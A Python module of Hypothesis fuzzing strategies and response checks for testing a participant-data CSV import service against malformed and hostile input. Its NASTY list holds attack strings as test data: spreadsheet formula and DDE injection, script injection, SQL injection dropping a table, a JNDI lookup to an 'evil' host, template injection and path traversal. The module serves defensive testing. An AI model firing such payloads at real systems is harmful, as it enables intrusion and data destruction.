"""Hypothesis strategies for malformed, oversized and hostile input, and the checks every
answer to such input must pass: no 500, no trace, a message, nothing half-written."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from sqlalchemy import text

from instruments import load_instrument

# Modest example counts keep the suite fast; every target names its own.
FAST = dict(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                           HealthCheck.data_too_large, HealthCheck.large_base_example,
                           HealthCheck.filter_too_much],
)


def examples(n: int):
    return settings(max_examples=n, **FAST)


NASTY = [
    "", " ", "\t", "\r\n", "0", "-1", "11", "10", "1e9", "NaN", "Infinity", "0x1F", "1.5",
    "٣", "²", "9" * 400, "2026-02-30", "2026-13-01", "0000-00-00", "31/12/2026",
    "=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>", "\" onmouseover=\"alert(1)", "</textarea><h1>x",
    "'; DROP TABLE participants; --", "' OR '1'='1", "${jndi:ldap://evil}", "{{7*7}}",
    "%s%s%n", "{0.__class__}", "../../etc/passwd", "..\\..\\windows", "%00", "\x00",
    "\ufeff", "\u202eevil", "\u200b", "Ŵŷ Cymraeg ŵ", "💥" * 40, "A" * 5000,
    "a@b", "x" * 320 + "@example.org", "None", "null", "true", "[]", "{}",
]
# Text a person could not type but a script could send (no lone surrogates: they cannot
# be encoded into a request at all).
ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=200)
HOSTILE = st.one_of(st.sampled_from(NASTY), ANY_TEXT)
BIG = st.sampled_from(["A" * 100_000, "=1+" * 30_000, "\u00e9" * 60_000])
FILENAMES = st.one_of(
    st.sampled_from(["cohort.csv", "../../etc/passwd", "C:\\evil\\a.csv", "<b>x</b>.csv",
                     "\"quoted\".csv", "a" * 300 + ".csv", "Ŵ.csv", ".csv", "-rf.csv"]),
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=0x2FFF,
                                   blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40),
)

PARTICIPANT_COLUMNS = ["participant_ref", "site", "completed_on", "language", "email", "phone",
                       "workability_end", "confidence_end", "importance_end"]
APPOINTMENT_COLUMNS = ["participant_ref", "appointment_on", "channel", "attendance",
                       "workability"]
SCORE = st.integers(0, 10).map(str)
DAY = st.dates(min_value=date(2020, 1, 1), max_value=date(2030, 12, 31)).map(str)
REF = st.from_regex(r"[A-Za-z0-9_-]{1,12}", fullmatch=True)
VALID = {
    "participant_ref": st.one_of(REF, st.sampled_from(["ZQREF-ALPHA1", "ZQREF-BRAVO2"])),
    "site": st.sampled_from(["Hull", "Leeds", "Caerdydd"]),
    "completed_on": DAY,
    "language": st.sampled_from(["en", "cy", ""]),
    "email": st.sampled_from(["", "client@example.org"]),
    "phone": st.sampled_from(["", "01632 960000"]),
    "workability_end": SCORE, "confidence_end": SCORE, "importance_end": SCORE,
    "appointment_on": DAY,
    "channel": st.sampled_from(["telephone", "video", "face_to_face_site"]),
    "attendance": st.sampled_from(["attended", "failed_to_attend"]),
    "workability": SCORE,
    "submitted_on": DAY,
    "mode": st.sampled_from(["web", "telephone"]),
}


def _answer_values(question) -> st.SearchStrategy:
    if question.type == "scale_0_10":
        return SCORE
    if question.type == "free_text":
        return ANY_TEXT
    values = [c.value for c in question.choices]
    if question.type == "multiple_choice":
        return st.lists(st.sampled_from(values), max_size=3).map(";".join)
    return st.sampled_from(values)


def _good(column: str, instrument: str | None = None) -> st.SearchStrategy:
    """A believable value for the column."""
    if column in VALID:
        return VALID[column]
    if instrument:
        questions = {q.id: q for q in load_instrument(instrument).questions()}
        if column in questions:
            return _answer_values(questions[column])
    return HOSTILE


def cell(column: str, instrument: str | None = None) -> st.SearchStrategy:
    """Usually a believable value for the column, often a hostile one."""
    good = _good(column, instrument)
    return st.one_of(good, good, HOSTILE)


def _to_csv(rows: list[list[str]], line_end: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator=line_end).writerows(rows)
    return out.getvalue()


@st.composite
def csv_file(draw, columns: list[str], required: list[str], instrument: str | None = None,
             max_rows: int = 6) -> bytes:
    """A CSV file: mostly well formed with hostile cells, sometimes broken or not CSV at all."""
    kind = draw(st.sampled_from(["table"] * 6 + ["bytes", "text", "big", "empty"]))
    if kind == "bytes":
        return draw(st.binary(max_size=600))
    if kind == "text":
        return draw(ANY_TEXT).encode()
    if kind == "empty":
        return draw(st.sampled_from([b"", b"\xef\xbb\xbf", b"\n\n", ",".join(columns).encode()]))
    header = draw(st.one_of(
        st.just(list(columns)), st.just(list(columns)),
        st.permutations(columns).map(list),
        st.lists(st.sampled_from(columns + ["junk", "", "participant_ref"]), max_size=12),
        st.just(list(required)),
    ))
    # Some files are clean (and should import), some have one bad cell, some many.
    dirt = draw(st.sampled_from(["clean", "clean", "one", "many"]))
    rows = [header]
    for _ in range(draw(st.integers(0 if dirt == "many" else 1, max_rows))):
        rows.append([draw(cell(name, instrument) if dirt == "many" else _good(name, instrument))
                     for name in header])
        if dirt == "many" and draw(st.integers(0, 9)) == 0:
            rows[-1] = rows[-1][: draw(st.integers(0, len(header)))] + draw(
                st.lists(HOSTILE, max_size=3))
    if dirt == "one" and len(rows) > 1 and header:
        row = draw(st.integers(1, len(rows) - 1))
        rows[row][draw(st.integers(0, len(header) - 1))] = draw(HOSTILE)
    body = _to_csv(rows, draw(st.sampled_from(["\n", "\r\n"])))
    if kind == "big":
        body += ",".join([draw(BIG)] * max(1, len(header))) + "\n"
    encoding = draw(st.sampled_from(["utf-8"] * 4 + ["utf-8-sig", "latin-1", "utf-16"]))
    try:
        return body.encode(encoding)
    except UnicodeEncodeError:
        return body.encode("utf-8")


def snapshot(engine, tables=("participants", "appointments", "invitations", "responses",
                             "studies", "waves")) -> dict[str, list]:
    """Everything an import could touch, to compare before and after a refusal."""
    with engine.connect() as conn:
        return {t: [tuple(r) for r in conn.execute(text(f"SELECT * FROM {t} ORDER BY id"))]
                for t in tables}


TRACE_MARKERS = ("Traceback (most recent call last)", 'File "/', "sqlalchemy.exc",
                 "psycopg.errors", "werkzeug.exceptions")


class Tally:
    """Counts what a target saw, for the closing note (and asserts there were no 500s)."""

    def __init__(self) -> None:
        self.statuses: dict[int, int] = {}

    def add(self, status: int) -> None:
        self.statuses[status] = self.statuses.get(status, 0) + 1

    @property
    def examples(self) -> int:
        return sum(self.statuses.values())


def check_page(response, tally: Tally | None = None) -> str:
    """The answer to hostile input: handled, explained, and without any trace."""
    if tally is not None:
        tally.add(response.status_code)
    body = response.get_data().decode("utf-8", "replace")  # downloads may be binary
    assert response.status_code < 500, body[:2000]
    for marker in TRACE_MARKERS:
        assert marker not in body, f"trace shown: {marker}"
    if 400 <= response.status_code < 500:
        assert "govuk-error-summary" in body or "<h1" in body, "a refusal without a message"
    return body
